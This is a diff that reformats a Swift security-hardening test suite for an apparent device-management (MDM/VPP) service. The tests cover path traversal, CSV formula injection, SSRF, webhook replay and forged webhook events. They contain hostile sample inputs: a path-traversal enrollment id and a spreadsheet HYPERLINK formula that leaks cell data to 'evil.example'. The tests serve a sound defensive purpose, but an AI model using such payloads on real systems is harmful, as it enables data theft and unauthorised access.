@@ -33,13 +33,18 @@ struct SecondHardeningTests {
     static func enroll(_ api: APIBench, serial: String, udid: String) async throws {
         for body in [
             try event(
-                "mdm.Authenticate", udid: udid,
-                payload: ["SerialNumber": serial, "UDID": udid, "ProductName": "iPad13,4", "OSVersion": "18.1"]),
+                "mdm.Authenticate",
+                udid: udid,
+                payload: ["SerialNumber": serial, "UDID": udid, "ProductName": "iPad13,4", "OSVersion": "18.1"]
+            ),
             try event("mdm.TokenUpdate", udid: udid, payload: ["Topic": "t"], tally: 1),
         ] {
             let answer = try await api.call(
-                "POST", "/mdm/webhook/\(api.world.tenant.id)", raw: body,
-                headers: ["X-Hmac-Signature": signature(body)])
+                "POST",
+                "/mdm/webhook/\(api.world.tenant.id)",
+                raw: body,
+                headers: ["X-Hmac-Signature": signature(body)]
+            )
             #expect(answer.status == 200, "\(answer.text)")
         }
         try await ProcessMDMEvents(services: api.world.services)(api.world.tenant.id)
@@ -47,15 +52,19 @@ struct SecondHardeningTests {
 
     @Test(
         "an enrollment id shaped like a path is refused at the webhook (recorded, no device) and never reaches the MDM server's URL",
-        arguments: [StoreKind.sqlite, .postgres])
+        arguments: [StoreKind.sqlite, .postgres]
+    )
     func enrollmentIDTraversal(kind: StoreKind) async throws {
         let mdm = try await RecordingListener.start()
         defer { mdm.stop() }
         try await withAPI(kind) { api in
             let tenant = api.world.tenant.id
             let connect = try await api.call(
-                "PUT", "/v1/mdm", key: api.ownerKey,
-                json: ["kind": "nanomdm", "url": mdm.url, "apiKey": "k", "webhookHmacKey": Self.hmacKey])
+                "PUT",
+                "/v1/mdm",
+                key: api.ownerKey,
+                json: ["kind": "nanomdm", "url": mdm.url, "apiKey": "k", "webhookHmacKey": Self.hmacKey]
+            )
             #expect(connect.status == 200, "\(connect.text)")
 
             let evil = "00008030-53535246/../../../../admin/reset"
@@ -65,7 +74,8 @@ struct SecondHardeningTests {
             let events = try await api.world.store.inTenant(tenant) { tx in try await tx.mdmEvents(limit: 10) }
             #expect(
                 events.count == 2 && events.allSatisfy { $0.state == .ignored },
-                "\(events.map { "\($0.topic) \($0.state) \($0.detail)" })")
+                "\(events.map { "\($0.topic) \($0.state) \($0.detail)" })"
+            )
             #expect(events.contains { $0.detail.hasPrefix("refused:") && $0.detail.contains("not an enrollment id") })
 
             // An id stored before ids were checked is never sent; a good one is one encoded segment.
@@ -75,18 +85,31 @@ struct SecondHardeningTests {
             let goodID = "00008030-001A35E11A53802E"
             try await api.world.store.inTenant(tenant) { tx in
                 try await tx.saveEnrollment(
-                    legacy, MDMEnrollment(state: .enrolled, enrollmentID: evil, lastSeenAt: now))
+                    legacy,
+                    MDMEnrollment(state: .enrolled, enrollmentID: evil, lastSeenAt: now)
+                )
                 try await tx.saveEnrollment(
-                    good, MDMEnrollment(state: .enrolled, enrollmentID: goodID, lastSeenAt: now))
+                    good,
+                    MDMEnrollment(state: .enrolled, enrollmentID: goodID, lastSeenAt: now)
+                )
                 try await tx.enqueueDeviceCommands(
                     [legacy, good].map {
                         DeviceCommand(
-                            serialNumber: $0.value, kind: .installedApplicationList, adamID: "", createdAt: now)
-                    })
+                            serialNumber: $0.value,
+                            kind: .installedApplicationList,
+                            adamID: "",
+                            createdAt: now
+                        )
+                    }
+                )
             }
             let outcome = try await DeliverDeviceCommands(
-                services: api.world.services, deliveries: MDMDeliveries(policy: api.world.services.outboundPolicy))(
-                    tenant, owner: "test")
+                services: api.world.services,
+                deliveries: MDMDeliveries(policy: api.world.services.outboundPolicy)
+            )(
+                tenant,
+                owner: "test"
+            )
             #expect(outcome.delivered == 1 && outcome.failed == 1, "\(outcome)")
             #expect(mdm.seen == ["PUT /v1/enqueue/\(goodID)"], "\(mdm.seen)")
             devices = try await api.call("GET", "/v1/devices", key: api.readerKey)
@@ -110,14 +133,21 @@ struct SecondHardeningTests {
 
     @Test(
         "every CSV vpp writes makes formula-like cells text (the API's report; the console's and vppctl's use the same rule)",
-        arguments: [StoreKind.sqlite])
+        arguments: [StoreKind.sqlite]
+    )
     func csvFormulas(kind: StoreKind) async throws {
         try await withAPI(kind) { api in
             let formula = #"=HYPERLINK("http://evil.example/?leak="&A1,"open")"#
             let (file, _) = try await api.world.location(
-                "@Campus", assets: [SimAsset(adamId: "408709785", totalCount: 5, name: formula)])
+                "@Campus",
+                assets: [SimAsset(adamId: "408709785", totalCount: 5, name: formula)]
+            )
             let upload = try await api.call(
-                "POST", "/v1/tokens", key: api.adminKey, json: ["token": String(decoding: file, as: UTF8.self)])
+                "POST",
+                "/v1/tokens",
+                key: api.adminKey,
+                json: ["token": String(decoding: file, as: UTF8.self)]
+            )
             #expect(upload.status == 201, "\(upload.text)")
             let id = try #require((upload.object["token"] as? [String: Any])?["id"] as? String)
             #expect(try await api.call("POST", "/v1/tokens/\(id)/sync", key: api.adminKey).status == 200)
@@ -138,7 +168,8 @@ struct SecondHardeningTests {
 
     @Test(
         "outbound URLs: internal, metadata and plain-http URLs refused with 422 naming the problem; a name resolving inside refused at connect time; a loopback listener receives nothing",
-        arguments: [StoreKind.sqlite])
+        arguments: [StoreKind.sqlite]
+    )
     func outboundPolicy(kind: StoreKind) async throws {
         let listener = try CountingListener()
         defer { listener.stop() }
@@ -157,11 +188,15 @@ struct SecondHardeningTests {
                 #expect(
                     answer.status == 422 && answer.errorCode == "invalid_mdm_connection"
                         && answer.errorMessage.contains(needle) && answer.errorMessage.contains("VPP_OUTBOUND_ALLOW"),
-                    "\(body): \(answer.text)")
+                    "\(body): \(answer.text)"
+                )
             }
             let public_ = try await api.call(
-                "PUT", "/v1/mdm", key: api.ownerKey,
-                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"])
+                "PUT",
+                "/v1/mdm",
+                key: api.ownerKey,
+                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"]
+            )
             #expect(public_.status == 200, "a public https URL is accepted: \(public_.text)")
 
             // A name that resolves inside passes the configuration check (no DNS then) but not the connection: saved
@@ -172,35 +207,50 @@ struct SecondHardeningTests {
             var permissive = api.world.services
             permissive.outboundPolicy = OutboundPolicy(allowList: host)
             _ = try await ConfigureMDM(services: permissive).connect(
-                .system(tenant), MDMConnectionRequest(kind: .nanomdm, url: inside, apiKey: "k"))
+                .system(tenant),
+                MDMConnectionRequest(kind: .nanomdm, url: inside, apiKey: "k")
+            )
             let serial = try SerialNumber("C02SSRF00001")
             let now = api.world.clock.now()
             try await api.world.store.inTenant(tenant) { tx in
                 try await tx.saveEnrollment(
-                    serial, MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now))
+                    serial,
+                    MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now)
+                )
                 try await tx.enqueueDeviceCommands([
                     DeviceCommand(
-                        serialNumber: serial.value, kind: .installedApplicationList, adamID: "", createdAt: now)
+                        serialNumber: serial.value,
+                        kind: .installedApplicationList,
+                        adamID: "",
+                        createdAt: now
+                    )
                 ])
             }
             var strict = api.world.services
             strict.outboundPolicy = .strict
             let outcome = try await DeliverDeviceCommands(services: strict, deliveries: MDMDeliveries(policy: .strict))(
-                tenant, owner: "test")
+                tenant,
+                owner: "test"
+            )
             #expect(outcome.delivered == 0 && outcome.retried == 1, "\(outcome)")
             let record = try #require(
                 try await api.world.store.inTenant(tenant) { tx in
                     try await tx.deviceCommandRecords(DeviceCommandQuery(serialNumber: serial.value, states: nil))
-                }.first)
+                }.first
+            )
             #expect(record.lastError?.contains("resolves to") == true, "\(record.lastError ?? "")")
 
             // The same URL saved as a literal loopback address (before this check existed) is refused too.
             permissive.outboundPolicy = OutboundPolicy(allowList: "127.0.0.1")
             _ = try await ConfigureMDM(services: permissive).connect(
-                .system(tenant), MDMConnectionRequest(kind: .micromdm, url: "http://127.0.0.1:\(port)", apiKey: "k"))
+                .system(tenant),
+                MDMConnectionRequest(kind: .micromdm, url: "http://127.0.0.1:\(port)", apiKey: "k")
+            )
             api.world.clock.advance(days: 1)
             let again = try await DeliverDeviceCommands(services: strict, deliveries: MDMDeliveries(policy: .strict))(
-                tenant, owner: "test")
+                tenant,
+                owner: "test"
+            )
             #expect(again.delivered == 0 && again.retried == 1, "\(again)")
             try await Task.sleep(for: .milliseconds(300))
             #expect(listener.connections == 0, "the loopback listener was reached")
@@ -208,8 +258,12 @@ struct SecondHardeningTests {
             // Control: allowed by the operator, the same delivery does reach the listener.
             api.world.clock.advance(days: 1)
             _ = try await DeliverDeviceCommands(
-                services: permissive, deliveries: MDMDeliveries(policy: permissive.outboundPolicy))(
-                    tenant, owner: "test")
+                services: permissive,
+                deliveries: MDMDeliveries(policy: permissive.outboundPolicy)
+            )(
+                tenant,
+                owner: "test"
+            )
             try await Task.sleep(for: .milliseconds(300))
             #expect(listener.connections >= 1, "the listener works")
         }
@@ -217,16 +271,25 @@ struct SecondHardeningTests {
 
     @Test(
         "webhook replays: a signed 512 KiB event sent 8 times is stored once; same id with other content is a new event; over 1 MiB is 413; processed events are pruned after the retention period",
-        arguments: [StoreKind.sqlite, .postgres])
+        arguments: [StoreKind.sqlite, .postgres]
+    )
     func webhookReplays(kind: StoreKind) async throws {
         try await withAPI(kind) { api in
             let tenant = api.world.tenant.id
             let connect = try await api.call(
-                "PUT", "/v1/mdm", key: api.ownerKey, json: ["kind": "pull", "webhookHmacKey": Self.hmacKey])
+                "PUT",
+                "/v1/mdm",
+                key: api.ownerKey,
+                json: ["kind": "pull", "webhookHmacKey": Self.hmacKey]
+            )
             #expect(connect.status == 200, "\(connect.text)")
             func post(_ body: Data) async throws -> APIBench.Answer {
                 try await api.call(
-                    "POST", "/mdm/webhook/\(tenant)", raw: body, headers: ["X-Hmac-Signature": Self.signature(body)])
+                    "POST",
+                    "/mdm/webhook/\(tenant)",
+                    raw: body,
+                    headers: ["X-Hmac-Signature": Self.signature(body)]
+                )
             }
             func event(id: String, padding: Int) throws -> Data {
                 try JSONSerialization.data(withJSONObject: [
@@ -266,7 +329,9 @@ struct SecondHardeningTests {
             api.world.clock.advance(days: 8)
             try await ScheduleMDMWork(services: api.world.services)(now: api.world.clock.now(), sweep: true)
             let jobs = RunDueJobs(
-                services: api.world.services, deliveries: MDMDeliveries(policy: api.world.services.outboundPolicy))
+                services: api.world.services,
+                deliveries: MDMDeliveries(policy: api.world.services.outboundPolicy)
+            )
             for _ in 0..<5 where !(await jobs(owner: "test", stopping: { false })).isEmpty {}
             let afterSweep = try await stored()
             #expect(afterSweep.isEmpty, "\(afterSweep.map(\.topic))")
@@ -275,13 +340,17 @@ struct SecondHardeningTests {
 
     @Test(
         "device events need the webhook key: a connection saved without one (before issue 24) refuses them (401, nothing recorded) and says so; connecting without a key makes one, shown once, usable as the HMAC key or in the path",
-        arguments: [StoreKind.sqlite])
+        arguments: [StoreKind.sqlite]
+    )
     func unsignedEvents(kind: StoreKind) async throws {
         try await withAPI(kind) { api in
             let tenant = api.world.tenant.id
             let connect = try await api.call(
-                "PUT", "/v1/mdm", key: api.ownerKey,
-                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"])
+                "PUT",
+                "/v1/mdm",
+                key: api.ownerKey,
+                json: ["kind": "nanomdm", "url": "https://mdm.example.com", "apiKey": "k"]
+            )
             let key = try #require(connect.object["webhookKey"] as? String, "\(connect.text)")
             #expect(key.count == 64 && key.allSatisfy(\.isHexDigit) && connect.object["webhookWarning"] == nil)
             let shown = try await api.call("GET", "/v1/mdm", key: api.readerKey)
@@ -294,13 +363,20 @@ struct SecondHardeningTests {
                     StoredMDMConnection(
                         connection: stored.connection,
                         secrets: MDMSealedSecrets(
-                            apiKey: stored.secrets.apiKey, webhookHMACKey: nil, signingSecret: nil)))
+                            apiKey: stored.secrets.apiKey,
+                            webhookHMACKey: nil,
+                            signingSecret: nil
+                        )
+                    )
+                )
             }
             let legacy = try await api.call("GET", "/v1/mdm", key: api.readerKey)
             #expect((legacy.object["webhookWarning"] as? String)?.contains("HMAC") == true, "\(legacy.text)")
             let forged = try Self.event(
-                "mdm.Authenticate", udid: "00008030-001A35E11A53802E",
-                payload: ["SerialNumber": "C02FORGED001", "UDID": "00008030-001A35E11A53802E"])
+                "mdm.Authenticate",
+                udid: "00008030-001A35E11A53802E",
+                payload: ["SerialNumber": "C02FORGED001", "UDID": "00008030-001A35E11A53802E"]
+            )
             let refused = try await api.call("POST", "/mdm/webhook/\(tenant)", raw: forged)
             #expect(refused.status == 401 && refused.errorMessage.contains("HMAC"), "\(refused.text)")
             let guessed = try await api.call("POST", "/mdm/webhook/\(tenant)/\(key)", raw: forged)
@@ -309,28 +385,39 @@ struct SecondHardeningTests {
 
             // Reconnecting without a key makes a new one: events in its path, or signed with it, are accepted.
             let again = try await api.call(
-                "PUT", "/v1/mdm", key: api.ownerKey,
-                json: ["kind": "micromdm", "url": "https://mdm.example.com", "apiKey": "k"])
+                "PUT",
+                "/v1/mdm",
+                key: api.ownerKey,
+                json: ["kind": "micromdm", "url": "https://mdm.example.com", "apiKey": "k"]
+            )
             let newKey = try #require(again.object["webhookKey"] as? String, "\(again.text)")
             #expect(newKey != key)
             let wrong = try await api.call(
-                "POST", "/mdm/webhook/\(tenant)/\(String(repeating: "0", count: 64))", raw: forged)
+                "POST",
+                "/mdm/webhook/\(tenant)/\(String(repeating: "0", count: 64))",
+                raw: forged
+            )
             #expect(wrong.status == 401)
             let viaPath = try await api.call("POST", "/mdm/webhook/\(tenant)/\(newKey)", raw: forged)
             #expect(viaPath.status == 200 && viaPath.object["recorded"] as? String == "pending", "\(viaPath.text)")
             let update = try Self.event("mdm.TokenUpdate", udid: "00008030-001A35E11A53802E", tally: 1)
             let signed = try await api.call(
-                "POST", "/mdm/webhook/\(tenant)", raw: update,
+                "POST",
+                "/mdm/webhook/\(tenant)",
+                raw: update,
                 headers: [
                     "X-Hmac-Signature": Data(HMACSHA256.mac(key: Array(newKey.utf8), message: Array(update)))
                         .base64EncodedString()
-                ])
+                ]
+            )
             #expect(signed.status == 200, "\(signed.text)")
             try await ProcessMDMEvents(services: api.world.services)(tenant)
             let devices = try await api.call("GET", "/v1/devices", key: api.readerKey)
             #expect(
                 devices.array.first?["udid"] as? String == "00008030-001A35E11A53802E"
-                    && devices.array.first?["enrollment"] as? String == "enrolled", "\(devices.text)")
+                    && devices.array.first?["enrollment"] as? String == "enrolled",
+                "\(devices.text)"
+            )
         }
     }
 
@@ -339,7 +426,9 @@ struct SecondHardeningTests {
         let target = try CountingListener()
         defer { target.stop() }
         let redirecting = try await RecordingListener.start(
-            status: .temporaryRedirect, location: "http://127.0.0.1:\(target.port)/v1/enqueue/x")
+            status: .temporaryRedirect,
+            location: "http://127.0.0.1:\(target.port)/v1/enqueue/x"
+        )
         defer { redirecting.stop() }
         try await withAPI(kind) { api in
             let tenant = api.world.tenant.id
@@ -347,19 +436,29 @@ struct SecondHardeningTests {
             var services = api.world.services
             services.outboundPolicy = OutboundPolicy(allowList: "127.0.0.1:\(redirecting.port)")
             _ = try await ConfigureMDM(services: services).connect(
-                .system(tenant), MDMConnectionRequest(kind: .nanomdm, url: redirecting.url, apiKey: "k"))
+                .system(tenant),
+                MDMConnectionRequest(kind: .nanomdm, url: redirecting.url, apiKey: "k")
+            )
             let serial = try SerialNumber("C02REDIR0001")
             let now = api.world.clock.now()
             try await api.world.store.inTenant(tenant) { tx in
                 try await tx.saveEnrollment(
-                    serial, MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now))
+                    serial,
+                    MDMEnrollment(state: .enrolled, enrollmentID: "00008030-001A35E11A53802E", lastSeenAt: now)
+                )
                 try await tx.enqueueDeviceCommands([
                     DeviceCommand(
-                        serialNumber: serial.value, kind: .installedApplicationList, adamID: "", createdAt: now)
+                        serialNumber: serial.value,
+                        kind: .installedApplicationList,
+                        adamID: "",
+                        createdAt: now
+                    )
                 ])
             }
             let outcome = try await DeliverDeviceCommands(
-                services: services, deliveries: MDMDeliveries(policy: services.outboundPolicy))(tenant, owner: "test")
+                services: services,
+                deliveries: MDMDeliveries(policy: services.outboundPolicy)
+            )(tenant, owner: "test")
             #expect(outcome.delivered == 0 && outcome.retried == 1, "\(outcome)")
             try await Task.sleep(for: .milliseconds(300))
             #expect(redirecting.seen.count == 1 && target.connections == 0, "\(redirecting.seen) \(target.connections)")
